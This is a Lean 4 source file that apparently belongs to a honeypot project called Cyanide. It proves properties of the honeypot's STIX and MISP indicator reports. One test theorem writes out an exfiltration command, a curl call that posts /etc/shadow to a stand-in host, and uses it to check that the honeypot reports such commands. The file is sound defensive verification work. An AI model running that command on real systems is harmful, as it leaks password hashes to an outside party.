import Cyanide.Services.Analytics

/-!
# The reports of a run

The STIX report of a run of calls can be read back exactly when no password, URL or address that it comes from has a quote
or a backslash (`reads_run_iff`).  The MISP report lists the same indicators in the same order (`alike_run`).  A command
that a rule or a sensitive path speaks for is reported with its source and all of its URLs (`reported_run`).
-/

namespace Cyanide

open PosixPath PyText Regex StixPattern Transition Indicators

/-! ### The MISP report -/

structure MispAttribute where
  type : Str
  value : Str
  comment : Str
  timestamp : Int
  toIds : Bool := true

structure MispEvent where
  uuid : Str
  info : Str
  threatLevelId : String := "2"
  analysis : String := "1"
  attributes : List MispAttribute

/-- What a call of `generate_misp_report` returns, what it dumps and what it logs. -/
structure MispReport where
  path : Option Str
  event : Option MispEvent
  events : List ReporterEvent

/-- The type of an attribute. -/
def mispType (type : Str) : Str :=
  if type = "ipv4-addr".toList then "ip-src".toList
  else if type = "url".toList then "url".toList
  else if type = "file-hash".toList then "sha256".toList
  else if type = "domain".toList then "domain".toList
  else if type = "credential".toList then "text".toList
  else "other".toList

namespace IocReporter

variable (W : ReportWorld) (date path : Str) (seconds : Str → Int) (quiet : Bool) (r : IocReporter)

def attributes : List MispAttribute := r.iocs.map fun ioc => {
  type := mispType ioc.type
  value := ioc.value
  comment := "Session: ".toList ++ ioc.session ++ " - ".toList ++ ioc.description
  timestamp := seconds ioc.timestamp }

def generateMispReport : MispReport :=
  if r.iocs = [] then ⟨none, none, []⟩
  else
    let event : MispEvent := {
      uuid := W.uuid 0
      info := "Cyanide Honeypot IOC Report - ".toList ++ date
      attributes := r.attributes seconds }
    match W.failure with
    | none =>
      ⟨some path, some event,
        if quiet then []
        else [⟨"system".toList, "ioc_report_generated".toList,
          [("format".toList, "misp".toList), ("path".toList, path), ("count".toList, natText r.iocs.length)]⟩]⟩
    | some e =>
      ⟨none, some event,
        [⟨"system".toList, "error".toList, [("message".toList, "Failed to save MISP report: ".toList ++ e)]⟩]⟩

end IocReporter

def MispReport.attributes (report : MispReport) : List MispAttribute :=
  (report.event.map MispEvent.attributes).getD []

theorem attributes_generateMispReport (W : ReportWorld) (date path : Str) (seconds : Str → Int) (quiet : Bool)
    (r : IocReporter) : (r.generateMispReport W date path seconds quiet).attributes = r.attributes seconds := by
  rw [IocReporter.generateMispReport]
  by_cases hnil : r.iocs = []
  · rw [if_pos hnil, IocReporter.attributes, hnil]
    rfl
  · rw [if_neg hnil]
    cases W.failure <;> rfl

/-! ### Two reports of one collection -/

/-- An indicator and an attribute say the same of one thing. -/
structure SameIoc (seconds : Str → Int) (ioc : Ioc) (i : StixIndicator) (a : MispAttribute) : Prop where
  pattern : patternOf ioc.type ioc.value = some i.pattern
  type : a.type = mispType ioc.type
  value : a.value = ioc.value
  name : i.name = "IOC from ".toList ++ ioc.session
  description : i.description = ioc.description
  comment : a.comment = "Session: ".toList ++ ioc.session ++ " - ".toList ++ ioc.description
  time : i.created = ioc.timestamp ∧ i.modified = ioc.timestamp ∧ i.validFrom = ioc.timestamp ∧
    a.timestamp = seconds ioc.timestamp

/-- The same things, in the same order. -/
def SameIocs (seconds : Str → Int) (iocs : List Ioc) (is : List StixIndicator) (as : List MispAttribute) : Prop :=
  is.length = as.length ∧ List.Forall₂ (fun ioc (p : StixIndicator × MispAttribute) => SameIoc seconds ioc p.1 p.2) iocs
    (is.zip as)

theorem sameIocs_reports {r : IocReporter} (hknown : ∀ ioc ∈ r.iocs, ioc.type ∈ knownTypes) (W : ReportWorld)
    (seconds : Str → Int) : SameIocs seconds r.iocs (r.indicators W) (r.attributes seconds) := by
  unfold IocReporter.indicators IocReporter.attributes
  generalize r.identity W = identity
  generalize r.iocs = iocs at hknown
  -- the identifiers are numbered by the position of the indicator
  generalize 0 = n
  induction iocs generalizing n with
  | nil => exact ⟨rfl, .nil⟩
  | cons ioc iocs ih =>
    obtain ⟨hioc, hrest⟩ := List.forall_mem_cons.1 hknown
    obtain ⟨s, objectType, path, ts, -, -, hpattern⟩ := exists_begins hioc
    obtain ⟨hlen, hall⟩ := ih hrest (n + 1)
    have hvalue := hpattern ioc.value
    simp only [List.zipIdx_cons, List.filterMap_cons, hvalue, Option.map_some, List.map_cons]
    refine ⟨by rw [List.length_cons, List.length_cons, hlen], ?_⟩
    rw [List.zip_cons_cons]
    exact .cons ⟨hvalue, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl⟩ hall

namespace ServiceRegistry

variable {σ : Type} [LinearOrder σ] {W : ServiceWorld σ} {s : ServiceRegistry σ}

theorem forall_findings {P : Str → Str → Prop} :
    (∀ f ∈ s.findings, P f.type f.value) ↔ ∀ ioc ∈ s.iocReporter.iocs, P ioc.type ioc.value := by
  rw [findings, List.forall_mem_map]

/-- Services with a model that takes everything for clean. -/
def blindServices : ServiceRegistry ℕ where
  session := {}
  ml := some CyanideML.blind
  iocReporter := { reportPath := "r.json".toList }
  vtScanner := VtScanner.new []
  log := []

def asciiWorld : ServiceWorld ℕ where
  now := fun _ => []
  unicode := ascii
  order := List.dedup
  perm := fun _ => List.Perm.refl _
  sha256 := fun _ => []
  hex := fun _ _ hc => absurd hc List.not_mem_nil
  scoreText := natText

/-- Every run of calls leaves a collection of which the two reports list the same indicators in the same order, with the
same sessions, descriptions, values and times. -/
theorem alike_run (hnew : s.iocReporter.iocs = []) (calls : List ServiceCall) (RW RW' : ReportWorld) (quiet quiet' : Bool)
    (date path : Str) (seconds : Str → Int) :
    let r := (run (step W) s calls).iocReporter
    SameIocs seconds r.iocs (r.generateStixReport RW quiet).indicators
      (r.generateMispReport RW' date path seconds quiet').attributes := by
  intro r
  have hstart : ∀ f ∈ s.findings, f.type ∈ knownTypes := by simp [findings, hnew]
  have hknown := (forall_findings (P := fun type _ => type ∈ knownTypes)).1 (known_run (W := W) hstart calls)
  rw [indicators_generateStixReport, attributes_generateMispReport]
  exact sameIocs_reports hknown RW seconds

theorem alike_run_auth : SameIocs (fun _ => 0) (run (step asciiWorld) blindServices
      [.auth "root".toList "toor".toList "s".toList]).iocReporter.iocs
    (((run (step asciiWorld) blindServices [.auth "root".toList "toor".toList "s".toList]).iocReporter).generateStixReport
      ⟨fun _ => [], fun _ => [], none⟩ true).indicators
    (((run (step asciiWorld) blindServices [.auth "root".toList "toor".toList "s".toList]).iocReporter).generateMispReport
      ⟨fun _ => [], fun _ => [], none⟩ [] [] (fun _ => 0) true).attributes :=
  alike_run rfl _ _ _ _ _ _ _ _

/-! ### Reading back -/

theorem reads_iff_plain {r : IocReporter} (hknown : ∀ ioc ∈ r.iocs, ioc.type ∈ knownTypes) (RW : ReportWorld) :
    (r.indicators RW).map (fun i => readPattern i.pattern) = r.iocs.map (fun ioc => some (ioc.type, ioc.value)) ↔
      ∀ ioc ∈ r.iocs, IsPlainValue ioc.value := by
  have hmap : (r.indicators RW).map (fun i => readPattern i.pattern) =
      (r.iocs.filterMap fun ioc => patternOf ioc.type ioc.value).map readPattern := by
    rw [← map_pattern_indicators RW r, List.map_map]
    rfl
  rw [hmap]
  generalize r.iocs = iocs at hknown
  induction iocs with
  | nil => simp
  | cons ioc iocs ih =>
    obtain ⟨hioc, hrest⟩ := List.forall_mem_cons.1 hknown
    obtain ⟨s, objectType, path, ts, -, -, hpattern⟩ := exists_begins hioc
    have hvalue := hpattern ioc.value
    rw [List.filterMap_cons, hvalue, List.map_cons, List.map_cons, List.cons_eq_cons, List.forall_mem_cons]
    exact and_congr (readPattern_iff hvalue) (ih hrest)

/-- The STIX report of a run says all that was collected exactly when every call of the run can be read back. -/
theorem reads_run_iff (hU : PlainDigits W.unicode) (hnew : s.iocReporter.iocs = []) (calls : List ServiceCall)
    (RW : ReportWorld) (quiet : Bool) :
    let r := (run (step W) s calls).iocReporter
    (r.generateStixReport RW quiet).indicators.map (fun i => readPattern i.pattern) =
        r.iocs.map (fun ioc => some (ioc.type, ioc.value)) ↔
      ∀ call ∈ calls, s.Readable W.unicode call := by
  intro r
  have hnone : s.findings = [] := by rw [findings, hnew, List.map_nil]
  have hknown := (forall_findings (P := fun type _ => type ∈ knownTypes)).1
    (known_run (W := W) (s := s) (by simp [hnone]) calls)
  rw [indicators_generateStixReport, reads_iff_plain hknown, ← forall_findings (P := fun _ value => IsPlainValue value),
    plain_run_iff hU, hnone]
  exact and_iff_right fun f hf => absurd hf List.not_mem_nil

theorem plainDigits_ascii : PlainDigits ascii := by
  intro c hc
  rcases (by simpa [isSpecial] using hc : c = '\'' ∨ c = '\\') with rfl | rfl <;> rfl

/-- A password without and one with a quote. -/
theorem reads_run_iff_quote :
    (((run (step asciiWorld) blindServices [.auth "root".toList "toor".toList "s".toList]).iocReporter).generateStixReport
        ⟨fun _ => [], fun _ => [], none⟩ true).indicators.map (fun i => readPattern i.pattern) =
      [some ("credential".toList, "root:toor".toList)] ∧
    (((run (step asciiWorld) blindServices [.auth "root".toList "it's".toList "s".toList]).iocReporter).generateStixReport
        ⟨fun _ => [], fun _ => [], none⟩ true).indicators.map (fun i => readPattern i.pattern) ≠
      [some ("credential".toList, "root:it's".toList)] := by
  constructor
  · refine (reads_run_iff (W := asciiWorld) plainDigits_ascii rfl _ _ _).2 fun call hcall => ?_
    rw [List.mem_singleton.1 hcall]
    have hplain : ∀ value : Str, (value.all fun c => !isSpecial c) = true → IsPlainValue value := fun value h c hc => by
      simpa using List.all_eq_true.1 h c hc
    exact ⟨hplain _ (by decide), hplain _ (by decide)⟩
  · intro heq
    have hread := (reads_run_iff (W := asciiWorld) plainDigits_ascii rfl _ _ _).1 heq _ List.mem_cons_self
    have hquote : isSpecial '\'' = false := hread.2 '\'' (by decide)
    cases hquote

/-! ### What is reported of a command -/

/-- Whatever else is done in a run, a command that a rule or a sensitive path speaks for is reported with its source and
with every URL in it. -/
theorem reported_run {calls : List ServiceCall} {cmd srcIp sessionId : Str} {isBot : Bool}
    (hcall : .command cmd srcIp sessionId isBot ∈ calls) {ml : CyanideML σ} (hml : s.ml = some ml) {n : ℕ}
    (hn : Speaks ml.letters cmd n) {guess : Bool × σ × σ} (hpredict : ml.predict cmd = .ok guess)
    {results : List (SearchResult σ)} (hsearch : ml.kb.search cmd 3 = .ok results) :
    (∃ f ∈ (run (step W) s calls).findings, f.type = "ipv4-addr".toList ∧ f.value = srcIp ∧ f.session = sessionId ∧
        f.severity = "high".toList) ∧
      ∀ scheme ∈ schemes, ∀ u v w, v ≠ [] → (∀ c ∈ v, urlChar c = true) → cmd = u ++ (scheme ++ v) ++ w →
        ∃ f ∈ (run (step W) s calls).findings, f.type = "url".toList ∧ scheme ++ v <:+: f.value ∧
          f.session = sessionId ∧ f.severity = "high".toList := by
  obtain ⟨a, ha, hanomaly, -⟩ := CyanideML.analyzeCommand_speaks hn hpredict hsearch
  obtain ⟨t, ht, hsub⟩ := added_run (W := W) (s := s) hcall
  have hfound : t.anomaly cmd = some a := by
    simp only [anomaly, analysisOf, ht, hml, Option.map_some, ha]
    exact if_pos hanomaly
  have hadded : sourceFinding W srcIp sessionId a :: commandFindings W cmd sessionId ⊆
      (run (step W) s calls).findings := by
    intro f hf
    refine hsub (List.mem_append_right _ ?_)
    rw [hfound]
    exact hf
  refine ⟨⟨_, hadded List.mem_cons_self, rfl, rfl, rfl, rfl⟩, ?_⟩
  intro scheme hscheme u v w hv hchars hcmd
  obtain ⟨x, hx, hinside⟩ := covered_urlsIn (W := W) hscheme hv hchars hcmd
  exact ⟨_, hadded (List.mem_cons_of_mem _ (List.mem_append_left _ (List.mem_map.2 ⟨x, hx, rfl⟩))), rfl, hinside, rfl, rfl⟩

theorem reported_run_shadow :
    (∃ f ∈ (run (step asciiWorld) blindServices [.command "curl http://h/a -d @/etc/shadow".toList "1.2.3.4".toList
        "s".toList false, .auth "root".toList "toor".toList "t".toList]).findings, f.value = "1.2.3.4".toList) ∧
      ∃ f ∈ (run (step asciiWorld) blindServices [.command "curl http://h/a -d @/etc/shadow".toList "1.2.3.4".toList
        "s".toList false, .auth "root".toList "toor".toList "t".toList]).findings, "http://h/a".toList <:+: f.value := by
  have hinfo : ContextAnalyzer.sensitivePaths.head (by decide) ∈
      ContextAnalyzer.pathsIn "curl http://h/a -d @/etc/shadow".toList := by decide +kernel
  have hcall : ServiceCall.command "curl http://h/a -d @/etc/shadow".toList "1.2.3.4".toList "s".toList false ∈
      [ServiceCall.command "curl http://h/a -d @/etc/shadow".toList "1.2.3.4".toList "s".toList false,
        .auth "root".toList "toor".toList "t".toList] := List.mem_cons_self
  have hreported := reported_run (W := asciiWorld) (s := blindServices) hcall rfl
    (.path hinfo (by decide)) rfl rfl
  obtain ⟨⟨f, hf, -, hvalue, -⟩, hurls⟩ := hreported
  obtain ⟨g, hg, -, hinside, -⟩ := hurls "http://".toList List.mem_cons_self "curl ".toList "h/a".toList
    " -d @/etc/shadow".toList (by decide) (fun c hc => by
      have hall : "h/a".toList.all urlChar = true := by decide
      exact List.all_eq_true.1 hall c hc) rfl
  exact ⟨⟨f, hf, hvalue⟩, ⟨g, hg, hinside⟩⟩

end ServiceRegistry

end Cyanide
